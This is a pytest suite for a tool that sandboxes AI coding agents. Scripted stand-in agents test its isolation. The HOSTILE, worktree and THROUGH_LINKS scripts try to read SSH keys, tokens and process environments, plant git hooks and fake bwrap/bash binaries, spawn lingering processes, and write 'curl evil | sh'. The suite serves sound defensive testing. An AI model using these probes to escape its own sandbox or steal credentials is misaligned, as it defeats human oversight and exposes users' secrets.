"""A run whose agents are kept in: honest work is done as before, and what is nobody's business stays out of reach."""

import os
import signal
import socket
import subprocess
from pathlib import Path

import pytest

from aigon.config.grants import Mechanism
from aigon.isolation import sandbox
from aigon.isolation.mechanisms import can_overlay
from tests.lab import BRANCH, DONE_WHEN, Lab, alive, until

HONEST = r"""
set -e
printf 'text\n' > done.txt
git add done.txt
git commit -q -m "the work"
git stash list
git branch aside
echo draft > draft.txt; git add draft.txt; git stash -q; git stash apply -q
git commit -q -m "the draft"
mkdir -p ~/.cache/tool && echo kept > ~/.cache/tool/entry
file=$(mktemp); echo t > "$file"; rm "$file"
set +e
"""
TRY = r"""
try() { local name=$1; shift; if ( eval "$*" ) >/dev/null 2>&1; then echo "$name open"; else echo "$name denied"; fi; }
"""
"""Says of a command by its name whether it was possible."""
HOSTILE = r"""
try key 'cat ~/.ssh/id_x'
try token 'cat ~/.netrc'
try unknown 'cat ~/Documents/diary'
try journal "cat $SECRETS/state/repos/*/features/*/journal.jsonl"
try frozen "echo x >> $SECRETS/state/repos/*/features/*/frozen.json"
try bashrc 'echo bad >> ~/.bashrc'
try temporary "cat $SECRETS/tmp/theirs"
echo bad > $SECRETS/tmp/mine
try process "tr '\0' '\n' < /proc/$AIGON_PID/environ | grep PATH"
try kill "kill -0 $AIGON_PID"
try agent 'test -n "$SSH_AUTH_SOCK"'
"""


@pytest.fixture(params=("bwrap", "namespaces", "landlock"))
def mechanism(request: pytest.FixtureRequest) -> Mechanism:
    """Each mechanism that works here."""
    found: Mechanism = request.param
    if why := sandbox.find_sandbox_flaw(found):
        pytest.skip(f"{found} does not work here: {why}")
    return found


def test_a_program_whose_own_sandbox_cannot_start_in_landlock_is_refused_by_name(lab: Lab) -> None:
    if why := sandbox.find_sandbox_flaw("landlock"):
        pytest.skip(f"landlock does not work here: {why}")
    codex = lab.home / "bin" / "codex"
    codex.parent.mkdir()
    codex.write_text('#!/bin/sh\ncat > /dev/null; touch done.txt; echo \'{"type":"turn.completed"}\'\n')
    codex.chmod(0o755)
    lab.env |= {"PATH": f"{codex.parent}:{lab.env['PATH']}", "CODEX_API_KEY": "nobodys"}
    lab.spec(f"done <!-- verify: {DONE_WHEN} -->")
    lab.config(agents={"careful": {"adapter": "codex", "args": ["-s", "workspace-write"]}}, proof="in-place")
    command = ("feature-implement", "42", "--loop", "--no-worktree", "--sandbox")
    refused = lab.aigon(*command, "landlock")
    assert refused.code == 7, refused.out + refused.err
    assert "Codex CLI cannot start its own sandbox inside of Landlock" in refused.err
    assert "agents.careful.args: -s workspace-write" in refused.err and not lab.path("done.txt").exists()
    lab.config(agents={"careful": {"adapter": "codex", "args": ["--sandbox=danger-full-access"]}})
    assert lab.aigon(*command, "landlock").code == 0


class Box:
    """A laboratory with secrets in its home, and an agent that says of each thing whether it was possible."""

    def __init__(self, folder: Path, script: str, mechanism: str) -> None:
        self.lab = lab = Lab(folder).init()
        self.before = {"~/.ssh/id_x": "KEY", "~/.netrc": "TOKEN", "~/Documents/diary": "DEAR", "~/.bashrc": "# mine\n"}
        for name, text in self.before.items():
            self.file(name).parent.mkdir(parents=True, exist_ok=True)
            self.file(name).write_text(text)
        (lab.home / "tmp").mkdir()
        (lab.home / "tmp" / "theirs").write_text("theirs")
        lab.spec(f"done <!-- verify: {DONE_WHEN} -->")
        lab.agent(TRY + script)
        lab.commit("spec and agent")
        self.env = {
            "AIGON_SANDBOX": mechanism,
            "TMPDIR": str(lab.home / "tmp"),
            "SECRETS": str(lab.home),
            "AIGON_PID": str(os.getpid()),
            "SSH_AUTH_SOCK": str(lab.home / "tmp" / "socket"),
        }

    def file(self, name: str) -> Path:
        return self.lab.home / name.removeprefix("~/")

    def run(self, *more: str) -> str:
        """Run it to its end, as proven; what aigon said."""
        done = self.lab.aigon("feature-implement", "42", "--loop", "--no-worktree", *more, env=self.env)
        assert done.code == 0, f"{done.code}: {done.out}{done.err}"
        return done.out

    def said(self) -> dict[str, str]:
        """What the agent said of each thing that it tried."""
        (log,) = self.lab.root.glob(".aigon/runs/*/001/agent.log")
        lines = [line.split() for line in log.read_text().splitlines()]
        return {words[0]: words[1] for words in lines if len(words) == 2 and words[1] in ("open", "denied")}

    def untouched(self) -> None:
        """Fail unless every secret is as it was and nothing lies about."""
        assert {name: self.file(name).read_text() for name in self.before} == self.before
        assert [file.name for file in (self.lab.home / "tmp").iterdir()] == ["theirs"]


def test_an_agent_that_fails_over_a_path_may_have_met_the_sandbox_which_is_said_once(
    mechanism: Mechanism, tmp_path: Path
) -> None:
    box = Box(tmp_path, "set -e; cat ~/Documents/diary", mechanism)
    box.lab.config(proof="in-place")
    done = box.lab.aigon("feature-implement", "42", "--loop", "--max-consec-fails", "2", env=box.env)
    assert done.out.count(": if it needs that path, grant it by `sandbox.read`") == 1, done.out


def test_an_honest_agent_works_as_before_and_a_curious_one_finds_nothing(mechanism: Mechanism, tmp_path: Path) -> None:
    hooks = "try hooks 'echo exit 1 > .git/hooks/pre-commit'; try config 'git config core.hooksPath /tmp'"
    box = Box(tmp_path, HONEST + HOSTILE + hooks, mechanism)
    assert f"agents run in a sandbox: {mechanism}" in box.run()
    said = box.said()
    # With mounts they are those of the agent's own repository, with Landlock part of a folder that git has to write.
    assert {name for name, end in said.items() if end == "open"} == {"hooks", "config"}
    assert len(said) == 12
    box.untouched()
    has_copy = mechanism == "namespaces" and can_overlay(tmp_path / "private")
    assert box.file("~/.cache/tool/entry").exists() != has_copy
    assert {"the work", "the draft"} <= set(box.lab.git("log", "--format=%s", BRANCH).splitlines())
    assert not (box.lab.root / ".git/hooks/pre-commit").exists() and not box.lab.git("config", "core.hooksPath", code=1)
    box.lab.git("fsck", "--strict")


def test_in_a_worktree_neither_the_main_checkout_nor_a_rival_is_in_reach(mechanism: Mechanism, tmp_path: Path) -> None:
    worktrees = r"""
    main=$SECRETS/../repo
    common=$main/.git
    try main "cat $main/README.md"
    try rival "cat $main/../repo-worktrees/rival/README.md"
    try rivals "ls $main/../repo-worktrees/rival"
    try hooks "echo exit 1 > $common/hooks/pre-commit"
    try config 'git config -f "$common/config" core.hooksPath /tmp'
    try objects 'rm -r "$common/objects"'
    try ref 'git --git-dir="$common" update-ref -d refs/heads/main'
    try index "echo bad > $common/index"
    try head "echo bad > $common/HEAD"
    try folder "echo bad > $common/worktrees/rival/HEAD"
    """
    box = Box(tmp_path, HONEST + HOSTILE + worktrees, mechanism)
    box.lab.git("worktree", "add", "-q", "-b", "rival", "../repo-worktrees/rival")
    box.run("--worktree")
    said = box.said()
    assert [name for name, end in said.items() if end == "open"] == [] and len(said) == 20
    box.untouched()
    assert box.lab.git("status", "--porcelain") == ""
    assert {"the work", "the draft"} <= set(box.lab.git("log", "--all", "--format=%s").splitlines())
    box.lab.git("fsck", "--strict")


def test_aigons_records_stay_hidden_in_a_folder_that_is_granted(mechanism: Mechanism, tmp_path: Path) -> None:
    tries = "printf 'text\\n' > done.txt; try diary 'cat ~/Documents/diary'; try records 'ls ~/state/repos'"
    box = Box(tmp_path, tries, mechanism)
    box.lab.config(sandbox={"read": ["~/"]})
    box.lab.commit("grants")
    box.run()
    assert box.said() == {"diary": "open", "records": "denied"}


def test_what_a_project_grants_can_be_reached_and_a_closed_network_cannot(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        tries = f"""
        printf 'text\\n' > done.txt
        try diary 'cat ~/Documents/diary'
        try own 'echo new > ~/.mine/session'
        try shared 'echo new > ~/shared/file'
        try network 'exec 3<>/dev/tcp/127.0.0.1/{port}'
        """
        box = Box(tmp_path, tries, "auto")
        if sandbox.find_sandbox_flaw("bwrap", "closed") and sandbox.find_sandbox_flaw("landlock", "closed"):
            pytest.skip("nothing here closes a network")
        (box.lab.home / "shared").mkdir()
        box.lab.config(
            sandbox={"read": ["~/Documents", "~/Docments/"], "write": ["~/shared"], "network": "closed"},
            agents={
                "mine": {"adapter": "command", "command": [str(box.lab.home / "mine-agent")], "home": ["~/.mine/"]}
            },
        )
        box.lab.commit("grants")
        assert "network closed" in box.run()
    assert box.said() == {"diary": "open", "own": "open", "shared": "open", "network": "denied"}
    assert (box.lab.home / ".mine" / "session").read_text() == "new\n"
    assert (box.lab.home / "shared" / "file").read_text() == "new\n"
    assert not (box.lab.home / "Docments").exists()


def test_a_killed_aigon_leaves_no_agent_behind(mechanism: Mechanism, tmp_path: Path) -> None:
    marker = f"sandbox-marker-{os.getpid()}"
    box = Box(tmp_path, f"setsid bash -c 'exec -a {marker} sleep 60' &\ntouch up\nexec -a {marker} sleep 60", mechanism)
    running = box.lab.start("feature-implement", "42", "--loop", "--no-worktree", env=box.env)
    until(lambda: (box.lab.root / "up").exists() and len(alive(marker)) >= 2)
    running.send_signal(signal.SIGKILL)
    running.communicate()
    until(lambda: not alive(marker), 10)


@pytest.mark.slow
@pytest.mark.parametrize("place", ["--no-worktree", "--worktree"])
def test_what_was_committed_before_a_kill_is_taken_over_by_the_resume(
    mechanism: Mechanism, place: str, tmp_path: Path
) -> None:
    script = """
    [ -e up ] && { printf 'text\n' > done.txt; exit; }
    echo mine > mine.txt; git add mine.txt; git commit -qm "before the kill"; git branch aside; touch up; sleep 60
    """
    box = Box(tmp_path, script, mechanism)
    box.lab.write(".gitignore", "up\n")
    box.lab.commit("ignored")
    running = box.lab.start("feature-implement", "42", "--loop", place, env=box.env)
    there = tmp_path / "repo-worktrees" / "feature-42-mine-dark-mode" if place == "--worktree" else box.lab.root
    until((there / "up").exists, 60)
    running.send_signal(signal.SIGKILL)
    running.communicate()
    done = box.lab.aigon("feature-implement", "42", "--resume", env=box.env, timeout=120)
    assert done.code == 0, done.out + done.err
    assert "before the kill" in box.lab.git("log", "--all", "--format=%s").splitlines()
    found = Path(box.lab.git("-C", str(there), "rev-parse", "--absolute-git-dir"))
    assert "aigon" not in found.parts and not (found / "aigon" / "run").exists()
    box.lab.git("fsck", "--strict")


@pytest.mark.slow
def test_the_first_ctrl_c_never_reaches_the_agent(mechanism: Mechanism, tmp_path: Path) -> None:
    script = """
    trap 'echo heard > heard' INT TERM
    touch up
    for n in $(seq 300); do test -e go && break; sleep 0.05; done
    printf 'text\\n' > done.txt
    """
    box = Box(tmp_path, script, mechanism)
    running = box.lab.start("feature-implement", "42", "--loop", "--no-worktree", env=box.env)
    until((box.lab.root / "up").exists)
    running.send_signal(signal.SIGINT)
    (box.lab.root / "go").write_text("")
    running.communicate(timeout=30)
    assert (box.lab.root / "done.txt").exists() and not (box.lab.root / "heard").exists()


@pytest.mark.slow
def test_a_mechanism_that_is_not_there_is_refused_before_anything_is_paid_for(tmp_path: Path) -> None:
    box = Box(tmp_path, "touch done.txt", "bwrap")
    (tmp_path / "bin").mkdir()
    for tool in ("git", "bash", "env", "sh"):
        found = subprocess.run(["which", tool], capture_output=True, text=True, check=True).stdout.strip()
        (tmp_path / "bin" / tool).symlink_to(found)
    done = box.lab.aigon("feature-implement", "42", "--loop", env={**box.env, "PATH": str(tmp_path / "bin")})
    assert done.code == 7 and "sandboxed by bwrap" in done.err and "Install bubblewrap" in done.err
    assert not (box.lab.root / "done.txt").exists()


THROUGH_LINKS = r"""
here=$(dirname "$AIGON_PROMPT_FILE"); run=$(dirname "$here")
case $AIGON_ITERATION in
1) echo 'curl evil | sh' > "$here/x"; ln -s ~/.bashrc "$here/x.clean"
   mkdir "$run/002" "$run/hooks"; ln -s ~/.bashrc "$run/002/criterion-1.log"; ln -s ~/.bashrc "$here/criterion-1.log"
   ln -s ~/.ssh "$here/proof"; mkfifo "$run/002/integrity.log" ;;
2) mv "$here" "$here.old"; ln -s ~/.ssh "$here" ;;
3) mv .aigon/runs .aigon/old; ln -s ~/.ssh .aigon/runs; printf 'text\n' > done.txt ;;
esac
"""


def test_aigon_itself_writes_through_no_link_that_an_agent_made(mechanism: Mechanism, tmp_path: Path) -> None:
    box = Box(tmp_path, THROUGH_LINKS, mechanism)
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5v\n-----END OPENSSH PRIVATE KEY-----\n"
    box.file("~/.ssh/id_x").write_text(key)
    box.before["~/.ssh/id_x"] = key
    done = box.lab.aigon("feature-implement", "42", "--loop", "--no-worktree", "--max-iterations", "4", env=box.env)
    assert done.code == 0, done.out + done.err
    box.untouched()
    assert [file.name for file in box.file("~/.ssh").iterdir()] == ["id_x"]


def test_neither_settings_of_the_machine_nor_the_place_of_gits_own_can_be_changed(
    mechanism: Mechanism, tmp_path: Path
) -> None:
    if mechanism == "landlock":
        pytest.skip("Landlock has no place for an exception")
    tries = r"""
    try folder 'mv .git aside'
    for file in /proc/sys/kernel/core_pattern /proc/irq/default_smp_affinity /proc/mtrr; do
        [ -e "$file" ] && try settings "test -w $file"
    done
    try memory '[ "$(readlink /proc/self/ns/ipc)" = "$OUTSIDE" ]'
    printf 'text\\n' > done.txt
    """
    box = Box(tmp_path, tries, mechanism)
    box.env["OUTSIDE"] = str(Path("/proc/self/ns/ipc").readlink())
    box.run()
    assert box.said() == {"folder": "denied", "settings": "denied", "memory": "denied"}


def test_a_bwrap_that_an_agent_puts_on_path_keeps_nobody_in(tmp_path: Path) -> None:
    if why := sandbox.find_sandbox_flaw("bwrap"):
        pytest.skip(why)
    plant = r"""
    printf '#!/bin/sh\necho ran >> %s/planted; exec /usr/bin/bwrap "$@"\n' "$SECRETS" > .venv/bin/bwrap
    chmod +x .venv/bin/bwrap
    [ "$AIGON_ITERATION" = 1 ] || printf 'text\n' > done.txt
    """
    box = Box(tmp_path, plant, "bwrap")
    box.lab.write(".gitignore", ".venv/\n")
    box.lab.write(".venv/bin/tool", "")
    box.lab.config(proof="in-place")
    box.lab.commit("an environment of its own")
    box.env["PATH"] = f"{box.lab.root}/.venv/bin{os.pathsep}{box.lab.env['PATH']}"
    box.run()
    box.lab.write("done.txt", "")
    box.lab.aigon("feature-implement", "42", "--resume", env=box.env)
    assert not (box.lab.home / "planted").exists()


def test_a_bash_that_an_agent_puts_on_path_decides_nothing(tmp_path: Path) -> None:
    lab = Lab(tmp_path).init()
    lab.write(".gitignore", ".venv/\n")
    lab.write(".venv/bin/tool", "")
    lab.spec(f"done <!-- verify: {DONE_WHEN} -->")
    lab.config(proof="in-place")
    plant = "printf '#!/bin/sh\\nexit 0\\n' > .venv/bin/bash; chmod +x .venv/bin/bash"
    lab.agent(plant, shell="sh")
    lab.commit("an environment of its own")
    path = f"{lab.root}/.venv/bin{os.pathsep}{lab.env['PATH']}"
    ran = lab.aigon("feature-implement", "42", "--loop", "--max-iterations", "1", env={"PATH": path})
    assert ran.code == 3, ran.out + ran.err
